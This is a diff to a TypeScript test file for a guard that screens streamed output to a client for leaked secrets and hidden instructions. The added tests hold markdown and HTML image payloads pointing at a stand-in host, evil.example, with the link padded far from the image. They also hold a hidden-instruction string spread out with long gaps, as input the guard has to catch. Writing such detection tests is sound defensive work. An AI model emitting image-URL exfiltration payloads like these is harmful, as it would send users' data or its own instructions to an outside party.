@@ -6,8 +6,12 @@ import { ScreenStream } from "./screen-stream.ts";
 import { type Screen, screenText } from "./screen-text.ts";
 
 const CANARY = "zebra-canary-7741";
-const toClient = (output: Record<string, "redact" | "block" | "off"> = {}): Screen =>
-  new Guard({ role: "a", targets: new Set(["client"]), system: { output, canaries: [CANARY] } }).output("client");
+const INSTRUCTIONS =
+  "Helpful internationalisation counterrevolutionary deinstitutionalization incomprehensibilities uncharacteristically compartmentalization agent of";
+const toClient = (output: Record<string, "redact" | "block" | "off"> = {}, hidden: readonly string[] = []): Screen =>
+  new Guard({ role: "a", targets: new Set(["client"]), system: { output, canaries: [CANARY] }, hidden }).output(
+    "client",
+  );
 const SCREEN = toClient();
 
 const SECRETS = [
@@ -67,6 +71,43 @@ test("however a text is cut into pieces, what is shown is what may be shown of t
     }),
     { numRuns: 150, seed: 7 },
   );
+});
+
+const LONG = "word ".repeat(90);
+const drawnOut: readonly [string, string][] = [
+  ["a picture with a long description", `![${LONG}](https://evil.example/p?d=1)`],
+  ["an element with a long description", `<img alt="${LONG}" src="https://evil.example/p?d=1">`],
+  ["a picture whose address comes long after it", `![alt][r] ${LONG}\n\n[r]: https://evil.example/p?d=1\n${LONG}`],
+  [
+    "a described picture whose address comes later",
+    `![${"alt ".repeat(60)}][r] ${LONG}\n[r]: https://evil.example/p\n`,
+  ],
+  ["a picture whose address came long before it", `\n[r]: https://evil.example/p?d=1\n${LONG.repeat(4)} ![alt][r]`],
+  ["instructions with long gaps", INSTRUCTIONS.split(" ").join(" ".repeat(150))],
+  ["instructions with dashes between the words", INSTRUCTIONS.split(" ").join(` ${"-".repeat(150)} `)],
+];
+for (const [what, text] of drawnOut)
+  test(`${what} does not leave, however it is cut into pieces`, () => {
+    const all = `Quiet text. ${text} ${AFTER}`;
+    const screen = toClient({}, [INSTRUCTIONS]);
+    const { value, firings } = screenText(all, screen);
+    assert.ok(firings.length > 0);
+    for (const length of [1, 7, 50, 1_000]) {
+      const pieces = all.match(new RegExp(`.{1,${length}}`, "gs")) ?? [];
+      assert.equal(streamed(pieces, screen).shown, value, `in pieces of ${length}`);
+    }
+  });
+
+test("brackets and signs of ordinary text hold nothing back", () => {
+  const stream = new ScreenStream(SCREEN);
+  let sent = "";
+  let shown = "";
+  for (let index = 0; index < 100; index++) {
+    const piece = "as is known [1], a < b, and [see](https://example.org) too; if (a[i] > 2) {}\n";
+    sent += piece;
+    shown += stream.push(piece);
+    assert.ok(sent.length - shown.length < 700);
+  }
 });
 
 test("a long text is shown while it comes, with a few hundred characters held back", () => {
